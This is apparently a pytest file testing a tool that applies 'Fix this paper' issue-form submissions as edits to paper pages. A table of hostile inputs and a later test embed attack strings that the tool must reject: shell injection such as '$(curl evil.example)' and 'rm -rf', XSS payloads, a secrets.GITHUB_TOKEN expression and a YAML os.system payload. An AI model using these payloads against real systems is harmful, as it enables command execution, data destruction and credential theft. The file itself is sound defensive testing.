"""papersite correct: a submitted "Fix this paper" form becomes a maintainer edit of one page.

Issue bodies are written as GitHub renders a submitted issue form (a ``### Label``
section per field, ``_No response_`` when empty; see tests/fixtures/issues/). Each
test runs the command line on a small project and looks at what a maintainer would:
the page, the diff, ``papersite check``, and for hostile bodies that every file is
byte-for-byte what it was and the error names the issue body's line.
"""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from generator.cli import main
from generator.config import bundled_taxonomy
from generator.corrections.form import CUT_MARK, FIELDS, ORDER_AS_ON_PAPER, ORDER_NOT_KNOWN, prefill_url
from generator.pages.record import read_page, render_page
from generator.enrich.taxonomy import load_taxonomy
from site_fixtures import fixture_records, write_project

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "issues"
A1 = "site_src/papers/one-step-diffusion-via-shortcut-models.md"


def github_body(values: dict[str, str]) -> str:
    """A body as GitHub renders the form: every field in form order, empty ones as _No response_."""
    return "\n\n".join(f"### {f.label}\n\n{values.get(f.id) or '_No response_'}" for f in FIELDS)


def form_values_from_link(url: str) -> dict[str, str]:
    """What the form holds when a reader opens the pre-filled link (GitHub fills fields by id)."""
    query = parse_qs(urlsplit(url).query)
    return {f.id: query[f.id][0] for f in FIELDS if f.id in query}


@pytest.fixture()
def project(tmp_path: Path) -> Path:
    return write_project(tmp_path / "site")


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file's bytes but the project lock's (a correction takes it, as an import does)."""
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file() and p.name != "lock"}


def correct(project: Path, body: str | bytes, *args: str, capsys) -> tuple[int, str, str, Path]:
    path = project.parent / "issue-body.md"
    if isinstance(body, bytes):
        path.write_bytes(body)
    else:
        path.write_text(body, encoding="utf-8")
    code = main(["--project", str(project), "correct", str(path), *args])
    out, err = capsys.readouterr()
    return code, out, err, path


def current_values(project: Path, slug: str) -> dict[str, str]:
    record = read_page(project / "site_src" / "papers" / f"{slug}.md")
    return form_values_from_link(prefill_url("https://github.com/example/papers", record, load_taxonomy(bundled_taxonomy())))


def test_a_form_as_github_renders_it_corrects_the_page(project: Path, capsys) -> None:
    body = (FIXTURES / "fix-topic-keywords-links.md").read_text(encoding="utf-8")
    code, out, err, _ = correct(project, body, capsys=capsys)
    assert code == 0, err
    page = read_page(project / A1)
    assert (page.topic.area, page.topic.subarea, page.topic.source) == ("Deep Learning", "Theory", "maintainer")
    assert page.topic.confidence is None
    assert page.keywords == ["diffusion models", "shortcut models", "consistency models"]
    assert page.links == {
        "code": "https://github.com/kvfrans/shortcut-models",
        "openreview": "https://openreview.net/forum?id=OlzB6LnXcS",
    }
    # fields the form left as they were stay exactly as they were
    original = next(r for r in fixture_records() if r.id == "a1")
    assert (page.title, page.authors, page.abstract, page.decision) == (
        original.title, original.authors, original.abstract, original.decision
    )
    assert f"--- a/{A1}" in out and "+  code: https://github.com/kvfrans/shortcut-models" in out
    assert "-  subarea: Generative Models and Autoencoders" in out
    assert f"changed topic, keywords, links in {A1}" in out
    assert main(["--project", str(project), "check"]) == 0


def test_dry_run_prints_the_diff_and_writes_nothing_but_the_comment(project: Path, capsys) -> None:
    before = snapshot(project)
    comment = project.parent / "comment.md"
    body = (FIXTURES / "fix-topic-keywords-links.md").read_text(encoding="utf-8")
    code, out, _, _ = correct(project, body, "--dry-run", "--comment", str(comment), capsys=capsys)
    assert code == 0
    assert snapshot(project) == before
    assert "+- shortcut models" in out and "would change topic, keywords, links" in out
    text = comment.read_text(encoding="utf-8")
    assert text.startswith("**The correction is valid.**")
    assert "```diff\n--- a/" in text and "+  subarea: Theory" in text


def test_textarea_line_endings_from_a_browser_are_read_the_same(project: Path, capsys) -> None:
    body = (FIXTURES / "fix-topic-keywords-links.md").read_text(encoding="utf-8").replace("\n", "\r\n")
    code, _, err, _ = correct(project, body, capsys=capsys)
    assert code == 0, err
    assert read_page(project / A1).keywords == ["diffusion models", "shortcut models", "consistency models"]


def test_the_pre_filled_form_submitted_unchanged_changes_nothing(project: Path, capsys) -> None:
    before = snapshot(project)
    for record in fixture_records():  # the hostile paper too: fields left as they were are the page's, not checked again
        values = current_values(project, record.slug)
        values["reason"] = "Just checking."
        code, out, err, _ = correct(project, github_body(values), capsys=capsys)
        assert code == 0, (record.slug, err)
        assert "nothing to change" in out, record.slug
    assert snapshot(project) == before


def test_a_shortened_abstract_left_alone_keeps_the_page_abstract(project: Path, capsys) -> None:
    long_abstract = " ".join(f"Sentence {n} says something about shortcut models and their sampling." for n in range(120))
    path = project / A1
    path.write_text(path.read_text(encoding="utf-8").replace(
        "abstract: Diffusion models and flow-matching models have enabled generating diverse and realistic images.",
        f"abstract: {long_abstract}",
    ), encoding="utf-8")
    record = read_page(path)
    url = prefill_url("https://github.com/example/papers", record, load_taxonomy(bundled_taxonomy()))
    values = form_values_from_link(url)
    assert values["abstract"].endswith(CUT_MARK) and len(values["abstract"]) < len(long_abstract)
    values["paper_title"] = "One-Step Diffusion via Shortcut Models"
    values["reason"] = "Hyphen."
    code, out, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 0, err
    page = read_page(path)
    assert page.title == "One-Step Diffusion via Shortcut Models" and page.abstract == long_abstract
    # ... but a shortened abstract someone edited cannot be applied: the rest is unknown
    values["abstract"] = "Changed start. " + values["abstract"]
    code, _, err, body = correct(project, github_body(values), capsys=capsys)
    assert code == 1
    assert re.search(rf"^{re.escape(str(body))}:\d+: the abstract ends with '{re.escape(CUT_MARK)}'", err, re.MULTILINE), err


def test_a_new_title_replaces_a_derived_one_and_an_abstract_fills_a_missing_one(project: Path, capsys) -> None:
    values = current_values(project, "no-topic-paper")
    values.update(
        paper_title="A Paper With a Real Title",
        abstract="We show that a page without an abstract can get one.\r\n\r\nIn two paragraphs.",
        authors="- Grace Hopper\n- Zoë Ångström-Núñez\n- 李明",
        topic="Theory",
        reason="From the PDF.",
    )
    code, _, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 0, err
    page = read_page(project / "site_src" / "papers" / "no-topic-paper.md")
    assert page.abstract == "We show that a page without an abstract can get one.\n\nIn two paragraphs."
    assert page.authors == ["Grace Hopper", "Zoë Ångström-Núñez", "李明"]
    assert (page.topic.area, page.topic.subarea, page.topic.source) == ("Theory", None, "maintainer")
    assert main(["--project", str(project), "check"]) == 0


def a1_values(**changes: str) -> dict[str, str]:
    values = {
        "paper_id": "a1",
        "paper_title": "One Step Diffusion via Shortcut Models",
        "authors": "Kevin Frans\nDanijar Hafner\nSergey Levine\nPieter Abbeel",
        "reason": "See the paper.",
    }
    values.update(changes)
    return values


OTHER = next(r for r in fixture_records() if r.id == "a2")

HOSTILE = {
    "unknown id": (a1_values(paper_id="f00dfeed"), "paper_id", "no paper page has the id 'f00dfeed'"),
    "slug for id": (
        a1_values(paper_id="graph-transformers"), "paper_id", "that is the slug of site_src/papers/graph-transformers.md",
    ),
    "shell in id": (a1_values(paper_id="a1; rm -rf ~ $(curl evil.example)"), "paper_id", "is not an id"),
    "topic outside the taxonomy": (a1_values(topic="Alchemy · Transmutation"), "topic", "is not in the taxonomy"),
    "empty title": (a1_values(paper_title="\u200b \u200b"), "paper_title", "the title is empty"),
    "javascript link": (a1_values(links="code: javascript:alert(document.cookie)"), "links", "must be an http(s) URL"),
    "link without a name": (a1_values(links="https://example.org/paper.pdf"), "links", "write each link as 'name: URL'"),
    "HTML in a name": (
        a1_values(authors='Kevin Frans\n<img src=x onerror="alert(1)">\nSergey Levine'), ("authors", 1), "contains HTML",
    ),
    "control character in a name": (a1_values(authors="Kevin Frans\nDanijar\x1b[31m Hafner"), ("authors", 1), "U+001B"),
    "bidi override in the title": (a1_values(paper_title="One Step \u202eledoM"), "paper_title", "U+202E"),
    "GitHub expression": (a1_values(paper_title="${{ secrets.GITHUB_TOKEN }}"), "paper_title", "contains '${{'"),
    "YAML front matter in the abstract": (
        a1_values(abstract="Fine.\nslug: pwned\ntopic: {area: Evil, source: maintainer}"), ("abstract", 1),
        "looks like page front matter",
    ),
    "YAML document in the keywords": (a1_values(keywords="---\n!!python/object/apply:os.system ['id']"), "keywords", "front matter"),
    "shell in a name": (a1_values(authors="Kevin Frans\n`id`; $(reboot) | tee /etc/passwd"), ("authors", 1), "a name is letters"),
    "another paper's fields": (
        a1_values(paper_title=OTHER.title, authors="\n".join(OTHER.authors), abstract=OTHER.abstract),
        "paper_title", "that is another paper, not paper 'a1'",
    ),
    "another paper's title and authors": (
        a1_values(paper_title=OTHER.title, authors="\n".join(OTHER.authors)), "paper_title", "that is another paper",
    ),
    "bidi mark in the title": (a1_values(paper_title="One Step Diffusion via Shortcut\u200e Models"), "paper_title", "U+200E"),
    "arabic letter mark in a keyword": (a1_values(keywords="diffusion models\nshortcut\u061c models"), ("keywords", 1), "U+061C"),
    "zero-width joiner in a keyword": (a1_values(keywords="diffu\u200dsion models"), "keywords", "U+200D"),
    "tag characters in a keyword": (a1_values(keywords="diffusion models\U000e0069\U000e0067"), "keywords", "U+E0069"),
    "variation selector in the title": (a1_values(paper_title="One Step Diffusion\ufe0f via Shortcut Models"), "paper_title", "U+FE0F"),
    "cyrillic look-alike keyword": (a1_values(keywords="diffusion models\nshortcut mоdels"), ("keywords", 1), "look-alikes"),
    "full-width keyword": (a1_values(keywords="ｄｉｆｆｕｓｉｏｎ models"), "keywords", "write 'diffusion models'"),
    "decision not on the form": (a1_values(decision="Accept (Best Paper)"), "decision", "is not one of the form's choices"),
    "duplicate keywords": (a1_values(keywords="diffusion models\nDiffusion Models"), None, "(in the corrected page)"),
}


def line_of_field(body: str, where: str | tuple[str, int]) -> int:
    """Body line of a field's value (plus an offset into a multi-line value)."""
    field_id, offset = where if isinstance(where, tuple) else (where, 0)
    label = next(f.label for f in FIELDS if f.id == field_id)
    return body.split("\n").index(f"### {label}") + 3 + offset


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_bad_or_hostile_form_changes_nothing_and_names_its_line(project: Path, capsys, case: str) -> None:
    values, where, message = HOSTILE[case]
    body = github_body(values)
    before = snapshot(project)
    code, out, err, path = correct(project, body, capsys=capsys)
    assert code == 1, out
    assert snapshot(project) == before
    assert "Traceback" not in err and "nothing was changed" in err
    assert message in err, err
    if where is not None:
        assert f"{path}:{line_of_field(body, where)}: " in err, err
    else:
        assert re.search(rf"^{re.escape(A1)}:\d+: ", err, re.MULTILINE), err


def test_every_field_hostile_at_once_reports_every_problem(project: Path, capsys) -> None:
    evil = '${{ github.event.issue.title }} <script>alert(1)</script> $(rm -rf /) `id`'
    values = {f.id: evil for f in FIELDS}
    values["authors"] = f"{evil}\nslug: x"
    values["topic"] = evil
    before = snapshot(project)
    code, _, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 1 and snapshot(project) == before
    for expected in ("is not an id", "contains '${{'", "contains HTML", "is not in the taxonomy", "write each link as"):
        assert expected in err, expected


def test_a_huge_body_is_refused_before_it_is_read(project: Path, capsys) -> None:
    body = github_body(a1_values(abstract="word " * 210_000))  # a 1 MB body
    before = snapshot(project)
    code, _, err, path = correct(project, body, capsys=capsys)
    assert code == 1 and snapshot(project) == before
    assert f"{path}:1: the issue body is 1,05" in err and "at most 65,536 characters" in err


def test_an_issue_not_made_with_the_form_is_refused(project: Path, capsys) -> None:
    code, _, err, path = correct(project, "The second author's name is misspelled, please fix!", capsys=capsys)
    assert code == 1
    assert f"{path}:1: no '### Paper id' section" in err


def test_a_body_that_is_not_utf8_is_refused(project: Path, capsys) -> None:
    code, _, err, path = correct(project, b"### Paper id\n\na1\n\n### Title\n\n\xff\xfe", capsys=capsys)
    assert code == 1 and f"{path}:7: the issue body is not UTF-8 text" in err  # the line of the first bad byte


def test_the_failure_comment_quotes_the_problems_in_a_fence_they_cannot_close(project: Path, capsys) -> None:
    comment = project.parent / "comment.md"
    values = a1_values(paper_id="````\n@everyone [click](https://evil.example)")
    code, _, _, _ = correct(project, github_body(values), "--dry-run", "--comment", str(comment), capsys=capsys)
    assert code == 1
    text = comment.read_text(encoding="utf-8")
    assert text.startswith("**This correction cannot be applied yet**")
    fence = re.search(r"^(`{3,})$", text, re.MULTILINE).group(1)
    inner = text.split(fence + "\n", 1)[1].rsplit("\n" + fence, 1)[0]
    assert "`" * len(fence) not in inner


def test_a_batch_of_forms_filled_from_the_same_page_undoes_nothing(project: Path, capsys, tmp_path: Path) -> None:
    base = tmp_path / "base-pages"
    base.mkdir()
    for page in (project / "site_src" / "papers").glob("*.md"):
        (base / page.name).write_bytes(page.read_bytes())
    filled = current_values(project, "one-step-diffusion-via-shortcut-models")  # what every reader's form held
    first = {**filled, "paper_title": "One-Step Diffusion via Shortcut Models", "reason": "Hyphen."}
    second = {**filled, "keywords": "diffusion models\nshortcut models", "reason": "Keywords."}
    rival = {**filled, "paper_title": "One Step Diffusion Using Shortcut Models", "reason": "Another title."}
    for values in (first, second):
        code, _, err, _ = correct(project, github_body(values), "--base-pages", str(base), capsys=capsys)
        assert code == 0, err
    page = read_page(project / A1)
    assert page.title == "One-Step Diffusion via Shortcut Models" and page.keywords == ["diffusion models", "shortcut models"]
    before = snapshot(project)
    code, _, err, path = correct(project, github_body(rival), "--base-pages", str(base), capsys=capsys)
    assert code == 1 and snapshot(project) == before
    assert f"{path}:7: the page's title changed after this form was filled in" in err, err


# --- the whole loop, offline ------------------------------------------------------------------


def fix_this_paper_link(page_html: str, site_dir: Path) -> str:
    """The link a reader follows: the page's, which papersite.js replaces by the pre-filled one of the
    site's fix shards (site/exports.py), the abstract appended where the shard gives it, as the script does."""
    import gzip
    import html
    import json
    from urllib.parse import quote

    match = re.search(r'<a href="([^"]+)"[^>]*\bdata-ps-fix\b[^>]*>Fix this paper</a>', page_html)
    assert match, "the paper page has no 'Fix this paper' link for the script to pre-fill"
    # the paper the script pre-fills it for: the page's own box names it (render/paper_pages.py PAPER_SLUG)
    slug = html.unescape(re.search(r'<div class=ps-paper data-ps-paper="?([^"\s>]+)"?>', page_html).group(1))
    schema = json.loads((site_dir / "assets" / "papersite" / "exports.json").read_text(encoding="utf-8"))
    from site_fixtures import shard_key

    key = shard_key(schema, slug)
    rows = json.loads(gzip.decompress((site_dir / schema["fix_path"].format(shard=key)).read_bytes()))
    row = next(dict(zip(schema["fix_columns"], r)) for r in rows if r[schema["fix_columns"].index("slug")] == slug)
    return row["url"] + "&abstract=" + quote(row["abstract"], safe="-_.!~*'()") if row["abstract"] else row["url"]


@pytest.mark.slow
def test_the_whole_loop_link_form_correct_check_reimport_rebuild(tmp_path: Path, capsys) -> None:
    """A reader follows the built page's link, changes two fields, submits; the site shows it."""
    root = tmp_path / "site"
    assert main(["init", str(root), "--site-name", "Loop"]) == 0
    config_file = root / "papersite.yml"
    config_file.write_text(config_file.read_text(encoding="utf-8") + "repo_url: https://github.com/example/loop\n", encoding="utf-8")
    assert main(["--project", str(root), "build", "--quiet"]) == 0  # imports the example listing, then builds
    pages = sorted((root / "site_src" / "papers").glob("*.md"))
    page_path = pages[0]
    record = read_page(page_path)
    built = (root / "site" / "papers" / record.slug / "index.html").read_text(encoding="utf-8")
    values = form_values_from_link(fix_this_paper_link(built, root / "site"))
    assert values["paper_id"] == record.id

    values["paper_title"] = "A Corrected Title for the Loop Test"
    values["topic"] = "Theory · Learning Theory"
    values["reason"] = "The PDF says so."
    capsys.readouterr()
    code, out, err, _ = correct(root, github_body(values), capsys=capsys)
    assert code == 0, err
    assert "changed title, topic" in out
    assert main(["--project", str(root), "check"]) == 0

    assert main(["--project", str(root), "import", "--quiet"]) == 0  # the listing still has the old values
    again = read_page(page_path)
    assert again.title == "A Corrected Title for the Loop Test"
    assert (again.topic.area, again.topic.subarea, again.topic.source) == ("Theory", "Learning Theory", "maintainer")

    assert main(["--project", str(root), "build", "--no-import", "--quiet"]) == 0
    rebuilt = (root / "site" / "papers" / record.slug / "index.html").read_text(encoding="utf-8")
    assert "A Corrected Title for the Loop Test" in rebuilt and "Learning Theory" in rebuilt
    assert "set by a maintainer" in rebuilt
    assert record.title not in rebuilt
    # the link now offers the corrected values
    assert form_values_from_link(fix_this_paper_link(rebuilt, root / "site"))["paper_title"] == "A Corrected Title for the Loop Test"


# --- the identity rule: a form cannot turn one paper into another -----------------------------

REPO_PAPERS = Path(__file__).resolve().parents[2] / "site_src" / "papers"


def real_pairs(count: int) -> list[tuple]:
    """Pairs of the repository's own pages that share no author: each pair is two different papers."""
    from generator.text import fold

    records = [read_page(path) for path in sorted(REPO_PAPERS.glob("*.md"))[: 2 * count + 20]]
    records = [r for r in records if r.authors and not r.title_derived]
    pairs = []
    for first, second in zip(records, records[1:]):
        if not {fold(a) for a in first.authors} & {fold(a) for a in second.authors}:
            pairs.append((first, second))
    return pairs[:count]


@pytest.mark.parametrize("with_abstract", [False, True])
def test_another_real_papers_title_and_authors_are_refused(tmp_path: Path, capsys, with_abstract: bool) -> None:
    pairs = real_pairs(12)
    assert len(pairs) == 12
    project = write_project(tmp_path / "site", [first for first, _ in pairs])
    before = snapshot(project)
    for first, second in pairs:
        values = current_values(project, first.slug)
        values.update(paper_title=second.title, authors="\n".join(second.authors), reason="Wrong paper.")
        if with_abstract and second.abstract:
            values["abstract"] = second.abstract
        body = github_body(values)
        code, out, err, path = correct(project, body, capsys=capsys)
        assert code == 1, (first.slug, out)
        assert f"{path}:{line_of_field(body, 'paper_title')}: the form replaces the title" in err, err
        assert f"that is another paper, not paper {first.id!r}" in err
    assert snapshot(project) == before


def test_ordinary_fixes_of_title_and_authors_still_pass(tmp_path: Path, capsys) -> None:
    (paper,) = real_pairs(1)[0][:1]
    project = write_project(tmp_path / "site", [paper])
    authors = list(paper.authors)
    title = paper.title
    fixes = {
        "typo in the title": (title.replace(title.split()[0], title.split()[0] + "s", 1), authors),
        "authors reordered": (title, authors[::-1]),
        "one name fixed": (title, [authors[0] + "e"] + authors[1:]),
        "an author added": (title, authors + ["Grace Hopper"]),
        "an author removed": (title, authors[:-1] if len(authors) > 1 else authors),
        "a later official title, same authors": ("Entirely Different Words For The Camera Ready", authors),
        "new title, reordered authors, one fixed": ("Entirely Different Words For The Camera Ready",
                                                    [authors[-1]] + [authors[0] + "e"] + authors[1:-1]),
    }
    for case, (new_title, new_authors) in fixes.items():
        write_project(tmp_path / "site", [paper])  # each fix on the page as it was
        values = current_values(project, paper.slug)
        values.update(paper_title=new_title, authors="\n".join(new_authors), reason=case)
        code, out, err, _ = correct(project, github_body(values), "--dry-run", capsys=capsys)
        assert code == 0, (case, err)


def test_the_identity_rule_in_numbers() -> None:
    from generator.corrections.correct import same_paper

    page = next(r for r in fixture_records() if r.id == "a1")
    assert same_paper(page, page) is None
    assert same_paper(page, page.replace(authors=["A. Nobody"])) is None  # a wrong author list from a listing
    assert same_paper(page, page.replace(title="Shortcut Models")) is None  # a new title, same authors
    other_title = "Learning to Sample in a Few Steps"
    assert same_paper(page, page.replace(title=other_title, authors=page.authors[:2])) is None  # half kept
    assert "another paper" in same_paper(page, page.replace(title=other_title, authors=page.authors[:1] + ["X Y"]))
    assert "another paper" in same_paper(page, page.replace(title=other_title, authors=[]))
    # keeping the page's authors but adding more of another paper's is replacing them too
    assert "another paper" in same_paper(page, page.replace(title=other_title, authors=page.authors + list("VWXYZ")))
    assert same_paper(page, page.replace(title=other_title, authors=page.authors + ["Grace Hopper"])) is None
    # a title one word away from another paper's passes only with the page's abstract
    near = page.replace(title="One Step Diffusion via Consistency Models", authors=["Ana Lee", "Bo Chen"])
    assert same_paper(page, near) is None
    assert "another paper" in same_paper(page, near.replace(abstract="We distil consistency models into one step."))
    derived = next(r for r in fixture_records() if r.id == "a3")
    assert same_paper(derived, derived.replace(title="A Real Title", authors=["Ada Lovelace"])) is None


# --- only the fields a form changes must meet its rules ---------------------------------------


@pytest.mark.parametrize("marked", ["Jane Doe*", "John Smith†", "Ann Lee1", "Bo Chen (equal contribution)"])
def test_a_title_fix_passes_when_the_page_authors_carry_footnote_marks(tmp_path: Path, capsys, marked: str) -> None:
    paper = next(r for r in fixture_records() if r.id == "a1")
    paper = paper.replace(authors=["Kevin Frans", marked, "Pieter Abbeel"], keywords=["diffusion  models", "<b>x</b>"])
    project = write_project(tmp_path / "site", [paper])
    values = current_values(project, paper.slug)
    values.update(paper_title="One-Step Diffusion via Shortcut Models", reason="Hyphen.")
    code, out, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 0, err
    page = read_page(project / A1)
    assert page.title == "One-Step Diffusion via Shortcut Models" and page.authors[1] == marked
    # ... but changing the authors holds the list to the form's rules again
    values["authors"] = values["authors"].replace("Pieter Abbeel", "Pieter Abbeel‡")
    code, _, err, path = correct(project, github_body(values), capsys=capsys)
    assert code == 1 and "a name is letters" in err and f"{path}:" in err


# --- the lock, odd inputs, the comment --------------------------------------------------------


def test_a_correction_waits_for_the_project_lock_and_fails_cleanly(project: Path, capsys, monkeypatch) -> None:
    import subprocess
    import sys

    monkeypatch.setenv("PAPERSITE_LOCK_WAIT", "0")
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import sys; from generator.config import load_config; from generator.pages.store import project_lock\n"
         f"with project_lock(load_config({str(project)!r}), 'import'):\n"
         "    print('held', flush=True); sys.stdin.read()"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=Path(__file__).resolve().parents[2],
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        before = snapshot(project)
        values = a1_values(paper_title="One-Step Diffusion via Shortcut Models")
        code, _, err, _ = correct(project, github_body(values), capsys=capsys)
        assert code == 1 and snapshot(project) == before
        assert "the project is locked by papersite import" in err and "Traceback" not in err
        code, out, err, _ = correct(project, github_body(values), "--dry-run", capsys=capsys)
        assert code == 0, err  # a dry run writes nothing: it needs no lock
    finally:
        holder.communicate("", timeout=30)
    code, _, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 0, err
    assert read_page(project / A1).title == "One-Step Diffusion via Shortcut Models"


def test_a_body_that_is_a_folder_or_a_pipe_is_refused(project: Path, capsys) -> None:
    import os

    folder = project.parent / "folder-body"
    folder.mkdir()
    fifo = project.parent / "fifo-body"
    os.mkfifo(fifo)
    for path in (folder, fifo, Path("/dev/zero")):
        code = main(["--project", str(project), "correct", str(path)])
        err = capsys.readouterr().err
        assert code == 1 and f"{path}:1: the issue body is not a regular file" in err, err


def test_a_page_that_is_not_utf8_is_named_not_a_traceback(project: Path, capsys, tmp_path: Path) -> None:
    page = project / A1
    page.write_bytes(page.read_bytes().replace(b"Diffusion models and", b"Diffusion \xff models and"))
    code, _, err, _ = correct(project, github_body(a1_values(paper_title="One-Step Diffusion via Shortcut Models")), capsys=capsys)
    assert code == 1 and "Traceback" not in err
    assert re.search(rf"^{re.escape(A1)}:1: not UTF-8 text", err, re.MULTILINE), err
    # and a page of --base-pages
    page.write_bytes(page.read_bytes().replace(b"\xff ", b""))
    base = tmp_path / "base"
    base.mkdir()
    (base / page.name).write_bytes(b"---\nid: a1\ntitle: \xff\n---\n")
    code, _, err, _ = correct(project, github_body(a1_values(paper_title="One-Step Diffusion via Shortcut Models")),
                              "--base-pages", str(base), capsys=capsys)
    assert code == 1 and "Traceback" not in err
    assert f"{base / page.name}:1: not UTF-8 text" in err, err


def test_the_comment_for_a_huge_body_stays_under_githubs_limit(project: Path, capsys) -> None:
    from generator.corrections.correct import MAX_COMMENT_CHARS

    comment = project.parent / "comment.md"
    many = "\n".join(f"Author {n} (the {n}th)" for n in range(2000))  # about 40 KB, a problem on every line
    code, _, err, _ = correct(project, github_body(a1_values(authors=many)), "--dry-run", "--comment", str(comment),
                              capsys=capsys)
    assert code == 1
    text = comment.read_text(encoding="utf-8")
    assert len(text) <= MAX_COMMENT_CHARS and f"of {len(err.splitlines()) - 1} problems are shown" in text
    # a diff too long for a comment is cut at a line, with a note
    from generator.corrections.correct import CorrectionResult, comment_markdown

    before = "".join(f"line {n} of the page\n" for n in range(20000))
    result = CorrectionResult(project / A1, A1, before, before.replace("of the", "of a"), ["abstract"])
    text = comment_markdown(result, [], dry_run=True, digest="0" * 64)
    assert len(text) <= MAX_COMMENT_CHARS and "the first" in text and "/approve sha256:" + "0" * 64 in text
    assert text.count("```") == 4  # both fences closed


@pytest.mark.parametrize("kind", ["folder", "symlink", "under a file", "fifo"])
def test_a_bad_comment_path_is_refused_before_the_page_changes(project: Path, capsys, kind: str) -> None:
    import os

    comment = project.parent / "comment.md"
    if kind == "folder":
        comment.mkdir()
    elif kind == "symlink":
        target = project.parent / "elsewhere.md"
        target.write_text("keep\n", encoding="utf-8")
        comment.symlink_to(target)
    elif kind == "under a file":
        (project.parent / "a-file").write_text("x\n", encoding="utf-8")
        comment = project.parent / "a-file" / "comment.md"
    else:
        os.mkfifo(comment)
    before = snapshot(project)
    values = a1_values(paper_title="One-Step Diffusion via Shortcut Models")
    code, _, err, _ = correct(project, github_body(values), "--comment", str(comment), capsys=capsys)
    assert code != 0 and "Traceback" not in err  # the command line refuses it before the command runs
    assert f"{comment}:1: " in err
    assert snapshot(project) == before
    if kind == "symlink":
        assert (project.parent / "elsewhere.md").read_text(encoding="utf-8") == "keep\n"


# --- approval bound to the text approved ------------------------------------------------------


def test_only_the_body_a_maintainer_approved_is_applied(project: Path, capsys) -> None:
    import json

    comment = project.parent / "comment.md"
    body = github_body(a1_values(paper_title="One-Step Diffusion via Shortcut Models"))
    code, _, err, _ = correct(project, body, "--dry-run", "--comment", str(comment), capsys=capsys)
    assert code == 0, err
    approve = re.search(r"^/approve sha256:[0-9a-f]{64}$", comment.read_text(encoding="utf-8"), re.MULTILINE).group(0)
    approvals = project.parent / "comments.json"

    def comments(*entries: tuple[str, str]) -> str:
        pages = [[{"author_association": who, "body": text, "user": {"login": who.lower(), "type": "User"}}]
                 for who, text in entries]
        return "".join(json.dumps(page) for page in pages)  # gh api --paginate: one array per page

    before = snapshot(project)
    edited = body.replace("Hyphen" if "Hyphen" in body else "See the paper.", "See the paper!")
    for text, approvals_json in (
        (body, comments(("NONE", approve), ("CONTRIBUTOR", approve))),  # not a maintainer
        (edited, comments(("OWNER", approve))),  # edited after the approval
        (body, comments(("MEMBER", "looks good"))),  # no hash
        (body, json.dumps([{"author_association": "MEMBER", "body": approve,  # the bot's own dry-run comment
                            "user": {"login": "github-actions[bot]", "type": "Bot"}}])),
    ):
        approvals.write_text(approvals_json, encoding="utf-8")
        code, _, err, path = correct(project, text, "--approvals", str(approvals), capsys=capsys)
        assert code == 1 and f"{path}:1: no maintainer approved this text" in err, err
        assert snapshot(project) == before
    approvals.write_text(comments(("NONE", "thanks"), ("COLLABORATOR", f"Checked.\n{approve}\n")), encoding="utf-8")
    code, _, err, _ = correct(project, body.replace("\n", "\r\n") + "\n", "--approvals", str(approvals), capsys=capsys)
    assert code == 0, err
    assert read_page(project / A1).title == "One-Step Diffusion via Shortcut Models"


# --- the decision -----------------------------------------------------------------------------


def test_the_decision_is_pre_filled_and_applied_as_a_maintainer_edit(project: Path, capsys) -> None:
    values = current_values(project, "one-step-diffusion-via-shortcut-models")
    assert values["decision"] == "Accept (Poster)"
    assert current_values(project, "calibrated-flows")["decision"] == "No decision"
    values.update(decision="Accept (Oral)", reason="The venue's list says oral.")
    code, out, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 0, err
    assert "changed decision" in out and read_page(project / A1).decision == "Accept (Oral)"
    values.update(decision="No decision")
    code, out, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 0, err
    assert read_page(project / A1).decision is None
    assert main(["--project", str(project), "check"]) == 0


def test_the_author_order_is_pre_filled_and_a_reader_can_make_it_known(project: Path, capsys) -> None:
    page = read_page(project / A1)
    (project / A1).write_text(render_page(page.replace(authors=sorted(page.authors), author_order="alphabetical")), encoding="utf-8")
    values = current_values(project, "one-step-diffusion-via-shortcut-models")
    assert values["author_order"] == ORDER_NOT_KNOWN
    # the same names in the paper's order, said so: the page names its first author again
    values.update(authors="\n".join(page.authors), author_order=ORDER_AS_ON_PAPER, reason="The PDF's order.")
    code, out, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 0, err
    after = read_page(project / A1)
    assert after.authors == page.authors and after.author_order is None and "author_order" in out
    assert current_values(project, "one-step-diffusion-via-shortcut-models")["author_order"] == ORDER_AS_ON_PAPER
    # and back: a reader who knows the order shown is not the paper's
    values = current_values(project, "one-step-diffusion-via-shortcut-models")
    values.update(author_order=ORDER_NOT_KNOWN, reason="These are sorted.")
    code, _, err, _ = correct(project, github_body(values), capsys=capsys)
    assert code == 0, err
    assert read_page(project / A1).author_order == "unknown"
    assert main(["--project", str(project), "check"]) == 0


def test_a_correction_is_refused_while_another_thread_holds_the_lock(project: Path, capsys, monkeypatch) -> None:
    import threading

    from generator.config import load_config
    from generator.pages.store import project_lock

    monkeypatch.setenv("PAPERSITE_LOCK_WAIT", "0")
    held, release = threading.Event(), threading.Event()

    def hold() -> None:
        with project_lock(load_config(project), "build"):
            held.set()
            release.wait(30)

    holder = threading.Thread(target=hold)
    holder.start()
    try:
        assert held.wait(30)
        before = snapshot(project)
        code, _, err, _ = correct(project, github_body(a1_values(paper_title="One-Step Diffusion via Shortcut Models")),
                                  capsys=capsys)
        assert code == 1 and "the project is locked by papersite build" in err and snapshot(project) == before
    finally:
        release.set()
        holder.join(30)


def test_a_page_line_never_reaches_the_ci_log_as_a_workflow_command() -> None:
    from generator.corrections.correct import CorrectionResult, printed_diff

    before = "---\ntitle: Old\nnote: |\n  ::warning file=README.md::pwned\n  ::add-mask::x\n---\n"
    after = before.replace("title: Old", "title: New")
    printed = printed_diff(CorrectionResult(Path("p.md"), "p.md", before, after, ["title"]))
    assert "+title: New" in printed and "pwned" in printed
    assert not any(line.lstrip().startswith("::") for line in printed.splitlines())
